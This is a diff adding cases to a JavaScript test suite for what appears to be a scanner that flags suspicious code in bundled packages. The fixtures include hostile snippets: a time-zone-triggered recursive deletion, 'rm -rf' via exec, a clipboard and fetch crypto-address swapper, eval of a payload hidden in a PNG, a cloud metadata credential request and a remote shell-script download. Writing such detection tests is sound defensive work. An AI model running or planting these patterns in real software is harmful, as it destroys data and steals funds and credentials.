@@ -59,6 +59,28 @@ test('names and links are not capabilities: a list of built-in modules, a URL in
   assert.equal(wantsAst(inBundle(`var u="https://dl.example.invalid/p.sh";require("child_process").execSync("sh -c "+u)`)), true);
 });
 
+test('a deletion next to a time-zone check, a wallet address next to the clipboard, code run next to an image file, a request to the cloud metadata address are parsed', () => {
+  assert.equal(
+    wantsAst(
+      inBundle(`var{rmSync:r}=de("fs"),z=Intl.DateTimeFormat().resolvedOptions().timeZone;if(z===T)r(process.cwd(),{recursive:!0})`),
+    ),
+    true,
+  );
+  assert.equal(wantsAst(inBundle(`var{exec:x}=de("child_process");x(p==="win32"?"rd /s /q "+d:"rm -rf "+d)`)), true);
+  assert.equal(
+    wantsAst(
+      inBundle(`setInterval(()=>{var v=execSync("pbpaste")+"";if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(v))execSync("pbcopy")},1e3)`),
+    ),
+    true,
+  );
+  assert.equal(wantsAst(inBundle(`var o=window.fetch;window.fetch=async(...a)=>swap(await o(...a),"0x${'4'.repeat(40)}")`)), true);
+  assert.equal(wantsAst(inBundle(`var b=fs.readFileSync(p.join(__dirname,"logo.png"));eval(b.slice(b.lastIndexOf("IEND")+8)+"")`)), true);
+  assert.equal(wantsAst(inBundle(`http.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/",cb)`)), true);
+  // Each alone is ordinary: a date library's time zones, a list of icons, a link.
+  assert.equal(wantsAst(inBundle(`function tz(d){return Intl.DateTimeFormat().resolvedOptions().timeZone}`)), false);
+  assert.equal(wantsAst(inBundle(`var icons=["a.png","b.png"];function f(s){return s.replace(/x/g,"y")}`)), false);
+});
+
 test('an invisible character that can be part of a name is parsed; joiners inside a Unicode table are not', () => {
   assert.equal(wantsAst(inBundle(`const {timeout,\u3164}=req.query;exec(\u3164)`)), true);
   assert.equal(wantsAst(inBundle(`var isAdmin\u200d=true`)), true);
